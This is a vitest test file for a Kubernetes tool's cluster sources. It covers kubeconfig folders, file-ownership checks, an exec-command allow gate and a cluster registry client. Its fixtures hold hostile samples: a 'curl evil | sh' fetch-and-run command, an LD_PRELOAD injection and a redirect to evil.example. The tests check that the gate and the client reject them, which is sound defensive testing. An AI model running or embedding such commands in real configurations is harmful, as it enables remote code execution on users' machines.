import { chmodSync, chownSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { pluginShare } from '../client/kubeconfig-targets.ts';
import { EffectiveSettings } from '../config/effective-settings.ts';
import { chooseSource } from './choose-source.ts';
import type { ClusterSource } from './cluster-source.ts';
import { ExecGate } from './exec-gate.ts';
import { followClusters } from './follow-clusters.ts';
import { kubeconfigSource } from './kubeconfig-source.ts';
import { selectedByLabels } from './label-selection.ts';
import { listsAddresses, parseClusterList } from './listed-cluster.ts';
import { registrySource } from './registry-source.ts';

const root = mkdtempSync(join(tmpdir(), 'hindsight-sources-'));
afterAll(() => rmSync(root, { recursive: true }));
let folder = '';
let folders = 0;
beforeEach(() => {
  folder = mkdtempSync(join(root, `${folders++}-`));
});

function kubeconfig(name: string, more: { server?: string; exec?: object } = {}): string {
  return JSON.stringify({
    clusters: [{ name: 'c', cluster: { server: more.server ?? `https://${name}.example` } }],
    users: [
      {
        name: 'u',
        user: more.exec === undefined ? { token: 't' } : { exec: { apiVersion: 'client.authentication.k8s.io/v1beta1', ...more.exec } },
      },
    ],
    contexts: [{ name, context: { cluster: 'c', user: 'u' } }],
  });
}

function write(file: string, text: string): string {
  const path = join(folder, file);
  writeFileSync(`${path}.tmp`, text);
  renameSync(`${path}.tmp`, path);
  return path;
}

const plugins = () => pluginShare({ env: {} });
const dir = (q: { files?: readonly string[]; allow?: readonly string[] } = {}): ClusterSource =>
  kubeconfigSource({ files: q.files, folders: [folder], env: {}, plugins: plugins(), gate: new ExecGate(q.allow ?? []) });
const idsOf = async (source: ClusterSource) =>
  (await source.read()).targets.map(({ context, defect }) => (defect === undefined ? context : `${context}!`));

describe('folders of kubeconfigs', () => {
  test('every file is a world of its own, in the order of their names; names that say nothing give way to the file’s', async () => {
    write('b.yaml', kubeconfig('b'));
    write('a.conf', kubeconfig('default'));
    write('c.yml', kubeconfig('kubernetes-admin@kubernetes'));
    write('.hidden', 'not: [yaml');
    write('b.yaml~', 'not: [yaml');
    expect(await idsOf(dir())).toEqual(['a', 'b', 'c']);
  });

  test('a broken file is told with its place; what it said before holds, and the others are not touched', async () => {
    const source = dir();
    write('a', kubeconfig('a'));
    write('b', kubeconfig('b'));
    expect(await idsOf(source)).toEqual(['a', 'b']);
    write('a', 'clusters:\n\t- x');
    const { targets, notices } = await source.read();
    expect(targets.map(({ context }) => context)).toEqual(['a', 'b']);
    expect(notices).toEqual([expect.stringMatching(/\/a:2:1: not valid YAML: .*; what it said before holds$/)]);
    write('a', kubeconfig('a2'));
    expect(await idsOf(source)).toEqual(['a2', 'b']);
    rmSync(join(folder, 'b'));
    expect(await idsOf(source)).toEqual(['a2']);
  });

  test('what everybody may write is not read, nor what another user owns', async () => {
    chmodSync(write('a', kubeconfig('a')), 0o666);
    write('b', kubeconfig('b'));
    const { targets, notices } = await dir().read();
    expect(targets.map(({ context }) => context)).toEqual(['b']);
    expect(notices).toEqual([expect.stringContaining('may be written by everybody: it is not read')]);
    await foreign(join(folder, 'b'), async () => {
      expect((await dir().read()).notices.at(-1)).toMatch(/b belongs to another user \(uid \d+\): it is not read$/);
    });
    await foreign(folder, async () => {
      await expect(dir().read()).rejects.toThrow(/belongs to another user/);
    });
  });

  /** Root may give a file away; anybody else is made another user instead. */
  async function foreign(path: string, run: () => Promise<void>): Promise<void> {
    const own = process.getuid;
    const id = own?.() ?? 0;
    if (id === 0) chownSync(path, 4711, 4711);
    // Root's files are everybody's to read, ours are not: for the file alone the folder must stay ours.
    else if (path !== folder) return;
    else process.getuid = () => 4711;
    try {
      await run();
    } finally {
      if (id === 0) chownSync(path, 0, 0);
      else if (own !== undefined) process.getuid = own;
    }
  }

  test('a folder that is not there is an error', async () => {
    rmSync(folder, { recursive: true });
    await expect(dir().read()).rejects.toMatchObject({ code: 'kubeconfig-missing', hint: 'Check the path in --kubeconfig-dir.' });
  });

  test('a new exec command needs leave, by name, path or *; one of a named file has it', async () => {
    const exec = { command: '/opt/bin/aws', args: ['eks'] };
    write('a', kubeconfig('a', { exec }));
    const { targets } = await dir().read();
    expect(targets[0]?.defect).toBe(
      'user "u": the exec command /opt/bin/aws is new, and new commands are run only when --allow-exec aws says so',
    );
    for (const allow of ['aws', '/opt/bin/aws', '*']) expect(await idsOf(dir({ allow: [allow] }))).toEqual(['a']);
    expect(await idsOf(dir({ allow: ['awsx'] }))).toEqual(['a!']);
    const named = join(root, `named-${folders}`);
    writeFileSync(named, kubeconfig('named', { exec: { command: '/opt/bin/aws', args: ['other'] } }));
    expect(await idsOf(dir({ files: [named] }))).toEqual(['named', 'a']);
  });

  test('a trusted interpreter may not run other things, and a trusted command may get no new variables', async () => {
    const named = join(root, `trusted-${folders}`);
    writeFileSync(named, kubeconfig('named', { exec: { command: 'sh', args: ['-c', 'echo fine'] } }));
    write('a', kubeconfig('a', { exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } }));
    write('b', kubeconfig('b', { exec: { command: 'sh', args: ['-c', 'echo fine'] } }));
    write('c', kubeconfig('c', { exec: { command: 'sh', args: ['-c', 'echo fine'], env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] } }));
    expect(await idsOf(dir({ files: [named] }))).toEqual(['named', 'a!', 'b', 'c!']);
  });

  test('a named file that changes while we run may not bring a new command either', async () => {
    const file = join(root, `changing-${folders}`);
    writeFileSync(file, kubeconfig('a', { exec: { command: 'aws' } }));
    const source = kubeconfigSource({ files: [file], folders: [], env: {}, plugins: plugins(), gate: new ExecGate([]) });
    expect(await idsOf(source)).toEqual(['a']);
    writeFileSync(file, kubeconfig('a', { exec: { command: 'evil' } }));
    expect(await idsOf(source)).toEqual(['a!']);
    writeFileSync(file, kubeconfig('a', { exec: { command: 'aws', args: ['more'] } }));
    expect(await idsOf(source)).toEqual(['a']);
  });

  test('a cluster that was read until now is read on as before when its context breaks', async () => {
    const file = join(root, `breaking-${folders}`);
    writeFileSync(file, kubeconfig('a'));
    const source = kubeconfigSource({ files: [file], folders: [], env: {}, plugins: plugins(), gate: new ExecGate([]) });
    const seen: (string | undefined)[] = [];
    const notices: string[] = [];
    const followed = followClusters({
      source,
      choice: () => ({ identity: 'cluster', labelSelector: '' }),
      onTargets: ([target]) => void seen.push(`${target?.credentials.label} ${target?.defect ?? ''}`),
      onNotice: (text) => void notices.push(text),
    });
    try {
      await followed.reread();
      writeFileSync(file, JSON.stringify({ ...JSON.parse(kubeconfig('a')), users: [] }));
      await followed.reread();
      // With nothing else to use, the whole file is the mistake.
      expect(notices).toEqual([expect.stringMatching(/there is no user "u"; the clusters known so far are kept$/)]);
      const both = JSON.parse(kubeconfig('a')) as { contexts: object[]; users: object[]; clusters: object[] };
      both.clusters.push({ name: 'd', cluster: { server: 'https://d' } });
      both.users = [{ name: 'v', user: { token: 't' } }];
      both.contexts.push({ name: 'b', context: { cluster: 'd', user: 'v' } });
      writeFileSync(file, JSON.stringify(both));
      await followed.reread();
      expect(seen).toEqual(['token ', 'token ']);
      expect(notices.at(-1)).toBe('a is read as before: there is no user "u"');
    } finally {
      followed.stop();
    }
  });

  test('what appears, changes and goes is told, once for each state', async () => {
    write('a', kubeconfig('a'));
    const source = dir();
    await source.read();
    const seen: string[] = [];
    const told = (wanted: string): Promise<void> =>
      new Promise((resolve) => {
        const look = setInterval(() => {
          if (seen.at(-1) !== wanted) return;
          clearInterval(look);
          resolve();
        }, 5);
      });
    const notices: string[] = [];
    const followed = followClusters({
      source,
      choice: () => ({ identity: 'cluster', labelSelector: '' }),
      onTargets: (targets) => void seen.push(targets.map(({ id }) => id).join()),
      onNotice: (text) => void notices.push(text),
    });
    try {
      write('b', kubeconfig('b'));
      await told('a,b');
      write('c', kubeconfig('c', { server: 'https://b.example' }));
      await told('a,b');
      rmSync(join(folder, 'a'));
      await told('b');
      rmSync(folder, { recursive: true });
      while (notices.length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
      expect(notices).toEqual([expect.stringMatching(/does not exist; the clusters known so far are kept$/)]);
      expect(seen.at(-1)).toBe('b');
    } finally {
      followed.stop();
    }
  });
});

describe('cluster registry', () => {
  let server: Server | undefined;
  let answer: { status: number; body: string } = { status: 200, body: '' };
  const asked: { path: string | undefined; authorization: string | undefined }[] = [];
  async function registry(): Promise<string> {
    server ??= createServer((request, response) => {
      asked.push({ path: request.url, authorization: request.headers.authorization });
      response.writeHead(answer.status, { 'content-type': 'application/json', location: 'http://evil.example' }).end(answer.body);
    });
    if (!server.listening) await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}/whatever?path`;
  }
  afterAll(() => server?.close());
  const item = (alias: string, more: object = {}) => ({
    id: `aws:${alias}`,
    alias,
    api_server_url: `https://${alias}.example`,
    lifecycle_status: 'ready',
    channel: 'beta',
    environment: 'production',
    infrastructure_account: 'aws:1234',
    region: 'eu-central-1',
    local_id: 'not-a-label',
    ...more,
  });

  test('ready clusters in order, labels with dashes, the token for both', async () => {
    const tokenFile = join(root, 'registry-token');
    writeFileSync(tokenFile, 'the-token\n');
    const { lifecycle_status: _, ...withoutStatus } = item('third');
    answer = {
      status: 200,
      body: JSON.stringify({
        items: [item('b/1'), item('gone', { lifecycle_status: 'decommissioned' }), withoutStatus, item('x', { api_server_url: null }), 7],
      }),
    };
    const source = registrySource({ url: await registry(), tokenFile, clusterTokenFile: undefined });
    const { targets } = await source.read();
    expect(targets.map(({ id, server: url, labels }) => [id, url, labels.id])).toEqual([
      ['b:1', 'https://b/1.example', 'aws:b/1'],
      ['third', 'https://third.example', 'aws:third'],
    ]);
    expect(targets[1]?.labels).toEqual({
      id: 'aws:third',
      channel: 'beta',
      environment: 'production',
      'infrastructure-account': 'aws:1234',
      region: 'eu-central-1',
    });
    expect(asked.at(-1)).toEqual({ path: '/kubernetes-clusters', authorization: 'Bearer the-token' });
    const credentials = await targets[0]?.credentials.get({ fresh: false, signal: new AbortController().signal });
    expect(credentials?.headers.authorization).toBe('Bearer the-token');
  });

  test.each([
    [500, '{}', /answered 500/],
    [200, '<html>', /something without "items"/],
    [200, '{"items": {}}', /something without "items"/],
    [302, '', /cannot be asked/],
  ])('%s %s keeps the clusters there are, and says so', async (status, body, message) => {
    answer = { status: 200, body: JSON.stringify({ items: [item('a')] }) };
    const source = registrySource({ url: await registry(), tokenFile: undefined, clusterTokenFile: undefined });
    const seen: string[][] = [];
    const notices: string[] = [];
    const followed = followClusters({
      source,
      choice: () => ({ identity: 'cluster', labelSelector: '' }),
      onTargets: (targets) => void seen.push(targets.map(({ id }) => id)),
      onNotice: (text) => void notices.push(text),
    });
    try {
      await followed.reread();
      answer = { status, body };
      await followed.reread();
      await followed.reread();
      expect(seen).toEqual([['a']]);
      expect(notices).toEqual([expect.stringMatching(message)]);
      expect(notices[0]).toMatch(/the clusters known so far are kept$/);
      await expect(source.read()).rejects.toMatchObject({ code: 'registry-failed' });
    } finally {
      followed.stop();
    }
  });

  test('one that does not answer in time, and one that is no address', async () => {
    const silent = createServer(() => {});
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(silent.address() as AddressInfo).port}`;
      const source = registrySource({ url, tokenFile: undefined, clusterTokenFile: undefined, deadlineMs: 30 });
      await expect(source.read()).rejects.toThrow(/did not answer within 0\.03 s/);
    } finally {
      silent.closeAllConnections();
      silent.close();
    }
    expect(() => registrySource({ url: 'clusters', tokenFile: undefined, clusterTokenFile: undefined })).toThrow(
      /needs an http or https address/,
    );
  });
});

describe('which source', () => {
  const choose = async (flags: Readonly<Record<string, string>>, env: Readonly<Record<string, string>> = {}): Promise<string> => {
    const given = {
      has: (name: string) => Object.hasOwn(flags, name),
      texts: (name: string) => (flags[name] === undefined ? [] : [flags[name]]),
    };
    const effective = new EffectiveSettings({ file: undefined, flags: given, env });
    return (await chooseSource(effective, { env: { HOME: '/home/jane', ...env }, plugins: plugins() })).label;
  };

  test('list, registry, kubeconfig, the default file', async () => {
    const list = { clusters: 'a=https://a' };
    const registry = { 'cluster-registry-url': 'https://r' };
    const file = { kubeconfig: '/k' };
    expect(await choose({ ...list, ...registry, ...file })).toBe('the list of clusters');
    expect(await choose({ ...registry, ...file })).toBe('cluster registry r');
    expect(await choose({ 'kubeconfig-path': '/k', 'kubeconfig-dir': '/d' })).toBe('kubeconfig /k /d/');
    expect(await choose({ 'kubeconfig-dir': '/d' })).toBe('kubeconfig /d/');
    expect(await choose({}, { KUBECONFIG: '/e' })).toBe('kubeconfig /e');
    expect(await choose({})).toBe('kubeconfig /home/jane/.kube/config');
    expect(await choose({ clusters: 'shop-*' })).toBe('kubeconfig /home/jane/.kube/config');
  });
});

test('lists of clusters, and labels that select them', () => {
  expect(parseClusterList('a=https://a/x=y; b = https://b ;')).toEqual([
    { name: 'a', url: 'https://a/x=y', labels: {} },
    { name: 'b', url: 'https://b', labels: {} },
  ]);
  expect(() => parseClusterList('a=https://a;b')).toThrow(
    expect.objectContaining({ place: expect.objectContaining({ offset: 12, length: 1 }) }),
  );
  expect(['a=https://x', 'a=HTTP://x', 'shop-*', 'channel=beta'].map(listsAddresses)).toEqual([true, true, false, false]);
  const target = (id: string, labels: Readonly<Record<string, string>>) => ({ id, labels }) as never;
  const all = [target('a', { channel: 'beta' }), target('b', { channel: 'stable' }), target('c', {})];
  const select = (selector: string) => selectedByLabels(all, selector).map(({ id }) => id);
  expect(select('channel=beta')).toEqual(['a']);
  expect(select('channel!=beta')).toEqual(['b', 'c']);
  expect(select('channel!=beta, channel != stable')).toEqual(['c']);
  expect(select('constructor!=x,toString!=y')).toEqual(['a', 'b', 'c']);
  expect(() => select('channel')).toThrow(/takes key=value/);
});
